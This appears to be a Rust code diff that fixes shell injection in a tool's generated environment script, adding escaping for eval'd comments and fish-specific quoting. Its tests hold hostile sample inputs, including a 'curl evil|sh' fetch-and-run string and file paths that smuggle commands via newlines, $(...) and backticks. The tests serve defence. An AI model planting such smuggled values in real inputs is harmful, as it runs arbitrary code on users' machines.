@@ -276,14 +276,16 @@ impl Env {
         let mut out = String::new();
         match shell {
             Shell::Sh | Shell::Fish => {
+                // Comments carry paths from the config: a newline in one
+                // must not end the comment (the text is eval'd).
                 for c in self.comments() {
-                    let _ = writeln!(out, "# {c}");
+                    let _ = writeln!(out, "# {}", one_line(&c));
                 }
                 for (var, value) in self.vars() {
                     let _ = match (shell, value) {
                         (Shell::Sh, Some(v)) => writeln!(out, "export {var}={}", sh_quote(&v)),
                         (Shell::Sh, None) => writeln!(out, "unset {var}"),
-                        (_, Some(v)) => writeln!(out, "set -gx {var} {}", sh_quote(&v)),
+                        (_, Some(v)) => writeln!(out, "set -gx {var} {}", fish_quote(&v)),
                         (_, None) => writeln!(out, "set -e {var}"),
                     };
                 }
@@ -351,15 +353,43 @@ fn host_port(url: &str) -> (&str, &str) {
     }
 }
 
-/// Single-quotes a value for sh and fish.
+/// Single-quotes a value for sh (inside '…' nothing is special but ').
 fn sh_quote(v: &str) -> String {
-    if v.bytes()
-        .all(|b| b.is_ascii_alphanumeric() || b"/._-:=+,@".contains(&b))
-    {
+    if plain(v) {
         v.to_string()
     } else {
         format!("'{}'", v.replace('\'', r"'\''"))
     }
+}
+
+/// Single-quotes a value for fish, where \\ and \' are escapes inside '…'.
+fn fish_quote(v: &str) -> String {
+    if plain(v) {
+        v.to_string()
+    } else {
+        format!("'{}'", v.replace('\\', r"\\").replace('\'', r"\'"))
+    }
+}
+
+/// Nothing a shell would read as special.
+fn plain(v: &str) -> bool {
+    !v.is_empty()
+        && v.bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b"/._-:=+,@".contains(&b))
+}
+
+/// A comment line's text: control characters (a newline would end the
+/// comment, and the text is eval'd) shown escaped.
+fn one_line(c: &str) -> String {
+    c.chars()
+        .map(|ch| {
+            if ch.is_control() {
+                ch.escape_default().to_string()
+            } else {
+                ch.to_string()
+            }
+        })
+        .collect()
 }
 
 /// The README's "Setting up clients" table, from [`SETTINGS`].
@@ -450,6 +480,51 @@ mod tests {
     fn quoting_survives_the_shell() {
         assert_eq!(sh_quote("/a b/it's"), r"'/a b/it'\''s'");
         assert_eq!(sh_quote("/plain/path.pem"), "/plain/path.pem");
+        assert_eq!(fish_quote(r"x\';curl evil|sh;#"), r"'x\\\';curl evil|sh;#'");
+        assert_eq!(fish_quote(r"a\"), r"'a\\'");
+    }
+
+    /// Whatever a config path or note holds, `sh` reads back exactly the
+    /// values and runs nothing else: every line is a comment or one
+    /// export/unset, and evaluating it sets the strings given.
+    #[test]
+    fn hostile_paths_cannot_escape_eval() {
+        let dir = tempfile::tempdir().unwrap();
+        let marker = dir.path().join("pwned");
+        let m = marker.display();
+        let hostile = [
+            format!("/x\ntouch {m}\n"),
+            format!("/a'b\"c$(touch {m})`touch {m}`;touch {m}"),
+            "/tab\there\\end\\".to_string(),
+            "/\r\u{7f}\u{1b}[31m".to_string(),
+        ];
+        for h in hostile {
+            let env = Env {
+                task: "t\nx".into(),
+                proxy: format!("http://127.0.0.1:3128/{h}"),
+                ca: Some((format!("{h}/ca.pem"), format!("{h}/ca-bundle.pem"))),
+                notes: vec![format!("in the guest, run sluice forward --to unix:{h}")],
+            };
+            let text = env.render(Shell::Sh);
+            for line in text.lines().filter(|l| l.starts_with('#')) {
+                assert!(line.starts_with("# "), "{line:?}");
+            }
+            let out = std::process::Command::new("sh")
+                .arg("-c")
+                .arg(format!("{text}\nprintf %s \"$SSL_CERT_FILE\""))
+                .output()
+                .unwrap();
+            assert!(
+                out.status.success(),
+                "{}",
+                String::from_utf8_lossy(&out.stderr)
+            );
+            assert_eq!(
+                String::from_utf8_lossy(&out.stdout),
+                format!("{h}/ca-bundle.pem")
+            );
+            assert!(!marker.exists(), "{h:?} ran a command:\n{text}");
+        }
     }
 
     /// The README's table is generated from SETTINGS; after changing them,
